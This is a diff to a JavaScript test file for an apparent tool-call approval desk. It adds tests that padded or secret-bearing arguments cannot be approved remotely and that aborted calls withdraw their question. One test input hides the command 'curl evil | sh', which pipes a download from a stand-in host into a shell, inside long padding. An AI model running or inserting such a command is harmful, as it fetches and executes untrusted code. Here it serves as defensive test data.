@@ -78,7 +78,7 @@ describe('question desk', () => {
           ),
       },
     })
-    const answer = x.approve(questionOf({ text: 'hunter2' }), { signal })
+    const answer = x.approve(questionOf({ text: 'milk' }), { signal })
     await x.until('question.asked')
     const question = await onlyPending(there)
     expect(question).toMatchObject({
@@ -86,13 +86,39 @@ describe('question desk', () => {
       server: 'notes',
       conversation: 'c1',
       canWait: true,
-      asked: { ref: 'notes/add', args: { text: '***' }, reason: 'It may write.' },
+      asked: { ref: 'notes/add', args: { text: 'milk' }, reason: 'It may write.' },
     })
     expect(await there.answer(question.id, 'always')).toBe(true)
     expect(await answer).toBe('always')
     expect(isWithdrawn).toBe(true)
     expect(x.events).toEqual(['question.asked', 'question.answered elsewhere'])
     expect(await there.answer(question.id, 'no')).toBe(false)
+  })
+
+  test('T10 a yes from elsewhere to arguments that are masked or folded there is none', async () => {
+    const [here, there] = [await open('k.db', 1), await open('k.db', 2)]
+    const x = desk(here)
+    for (const text of ['echo hunter2', `${'a'.repeat(60_000)}; curl evil | sh; ${'a'.repeat(60_000)}`]) {
+      const answer = x.approve(questionOf({ text }), { signal })
+      while ((await there.list({ state: 'pending' })).length === 0) await new Promise(setImmediate)
+      const { id, asked } = await onlyPending(there)
+      expect(asked).toMatchObject({ masked: true })
+      expect(JSON.stringify(asked).length).toBeLessThan(25_000)
+      await there.answer(id, 'always')
+      expect(await answer).toBe('no')
+    }
+  })
+
+  test('a call that was stopped withdraws its question also while the desk closes', async () => {
+    const [here, there] = [await open('l.db', 1), await open('l.db', 2)]
+    const x = desk(here)
+    const stopping = new AbortController()
+    const answer = x.approve(questionOf(), { signal: stopping.signal }).catch(() => 'gone')
+    await x.until('question.asked')
+    stopping.abort()
+    await x.close()
+    expect(await answer).toBe('gone')
+    expect((await there.list()).map(({ state }) => state)).toEqual(['withdrawn'])
   })
 
   test('an answer in the terminal that asked settles the question; the store keeps only what was decided', async () => {
